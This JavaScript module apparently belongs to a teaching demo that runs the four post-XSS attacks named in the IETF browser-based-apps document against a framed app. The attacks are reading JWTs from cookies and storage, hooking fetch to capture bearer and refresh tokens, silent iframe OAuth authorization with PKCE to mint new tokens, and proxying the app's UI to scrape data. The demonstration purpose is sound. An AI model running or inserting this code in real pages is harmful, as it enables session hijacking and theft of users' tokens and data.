// What a hacker's script does once it runs in an app's page (an XSS hole, a compromised
// dependency): the four attacks the IETF's browser-based-apps document judges architectures by.
// The live panel has frame.js load this module into the framed app and run one of them; each
// returns its loot — tokens, or data — which the panel hands to the hacker, whose own client then
// tries the tokens against the Store's API. Every request made here is a real request of the
// reader's browser, from the app's origin, with whatever the browser attaches by itself.
const config = document.querySelector('main[data-app-name]')?.dataset ?? {};
const JWT = /eyJ[\w-]+\.[\w-]+\.[\w-]+/g;
const wait = (ms) => new Promise((resolve) => setTimeout(resolve, ms));

/** Every JWT-shaped or token-named value script can read right now: cookies, both storages. */
function readableTokens() {
  const found = new Set();
  const scan = (text) => (text.match(JWT) ?? []).forEach((token) => found.add(token));
  scan(document.cookie);
  for (const storage of [localStorage, sessionStorage]) {
    for (let index = 0; index < storage.length; index += 1) scan(storage.getItem(storage.key(index)) ?? '');
  }
  return [...found];
}

/** (a) Single-execution token theft: take whatever tokens the page exposes, once. */
export async function steal() {
  return { tokens: readableTokens(), refreshTokens: [] };
}

/**
 * (b) Persistent token theft: wrap fetch for as long as the page lives, and copy every token that
 * goes out in an Authorization header or comes back from a token endpoint. The app then reloads its
 * data, as the user would, and the script reports what it caught.
 */
export async function persist() {
  const caught = { tokens: new Set(readableTokens()), refreshTokens: new Set() };
  if (!window.__demoFetchHooked) {
    window.__demoFetchHooked = true;
    const original = window.fetch;
    window.fetch = async (input, init = {}) => {
      const headers = new Headers(init.headers ?? {});
      const bearer = /^Bearer (.+)$/.exec(headers.get('authorization') ?? '');
      if (bearer) window.__demoCaught?.tokens.add(bearer[1]);
      const response = await original(input, init);
      response.clone().json().then((body) => {
        if (body?.access_token) window.__demoCaught?.tokens.add(body.access_token);
        if (body?.refresh_token) window.__demoCaught?.refreshTokens.add(body.refresh_token);
      }).catch(() => {});
      return response;
    };
  }
  window.__demoCaught = caught;
  reloadData();
  await wait(1500);
  return { tokens: [...caught.tokens], refreshTokens: [...caught.refreshTokens] };
}

/**
 * (c) Acquisition of new tokens: get tokens of its own, the way the page's origin can — a silent
 * authorization request for the app's client in a hidden frame, redeemed with its own PKCE pair, and
 * the backend's token endpoint where the app has one.
 */
export async function acquire() {
  const tokens = [];
  const refreshTokens = [];
  if (config.tokenUrl) {
    const answer = await fetch(config.tokenUrl, { method: 'POST', headers: { [config.csrfHeader]: '1' } }).catch(() => null);
    const body = answer?.ok ? await answer.json() : null;
    if (body?.access_token) tokens.push(body.access_token);
  }
  const silent = await silentAuthorization();
  if (silent.access_token) tokens.push(silent.access_token);
  if (silent.refresh_token) refreshTokens.push(silent.refresh_token);
  return { tokens, refreshTokens, notes: silent.note ? [silent.note] : [] };
}

/** (d) Proxying: use the app itself, while the page is open, and read what it shows. */
export async function proxy() {
  const view = document.getElementById('view');
  const before = view?.textContent ?? '';
  reloadData();
  for (let tries = 0; tries < 30 && (view?.textContent ?? '') === before; tries += 1) await wait(100);
  await wait(300);
  const table = view?.querySelector('table, ul');
  return { tokens: [], refreshTokens: [], data: table ? table.textContent.replace(/\s+/g, ' ').trim() : '' };
}

function reloadData() {
  const reload = [...document.querySelectorAll('#view button')].find((button) => button.textContent === config.reloadLabel);
  reload?.click();
}

const base64url = (bytes) => btoa(String.fromCharCode(...new Uint8Array(bytes))).replace(/\+/g, '-').replace(/\//g, '_').replace(/=+$/, '');

async function silentAuthorization() {
  const clientId = config.clientId ?? config.oauthClientId;
  const redirectPath = config.redirectPath ?? '/oauth-redirect';
  if (!clientId || !config.idpOrigin) return { note: 'The page names no OAuth client the script could use.' };
  const verifier = base64url(crypto.getRandomValues(new Uint8Array(32)));
  const challenge = base64url(await crypto.subtle.digest('SHA-256', new TextEncoder().encode(verifier)));
  const authorize = new URL('/oauth2/authorize', config.idpOrigin);
  const redirectUri = `${location.origin}${redirectPath}`;
  authorize.search = new URLSearchParams({
    client_id: clientId, redirect_uri: redirectUri, response_type: 'code', scope: 'openid offline_access', state: 'xss', code_challenge: challenge, code_challenge_method: 'S256', prompt: 'none',
  }).toString();
  const frame = document.createElement('iframe');
  frame.hidden = true;
  const code = await new Promise((resolve) => {
    const timer = setTimeout(() => resolve(null), 4000);
    frame.addEventListener('load', () => {
      try {
        const url = new URL(frame.contentWindow.location.href);
        if (url.pathname === redirectPath) {
          clearTimeout(timer);
          resolve(url.searchParams.get('code'));
        }
      } catch {
        /* still cross-origin */
      }
    });
    frame.src = authorize.href;
    document.body.append(frame);
  });
  frame.remove();
  if (!code) return { note: 'The silent authorization request brought back no code (the page may not frame the identity provider).' };
  const response = await fetch(new URL('/oauth2/token', config.idpOrigin), {
    method: 'POST',
    credentials: 'include',
    body: new URLSearchParams({ grant_type: 'authorization_code', code, redirect_uri: redirectUri, client_id: clientId, code_verifier: verifier }),
  }).catch(() => null);
  const body = response ? await response.json().catch(() => ({})) : {};
  return response?.ok ? body : { note: `The identity provider refused to redeem the code for the script (${response?.status ?? 'no answer'}${body.error ? `: ${body.error}` : ''}).` };
}
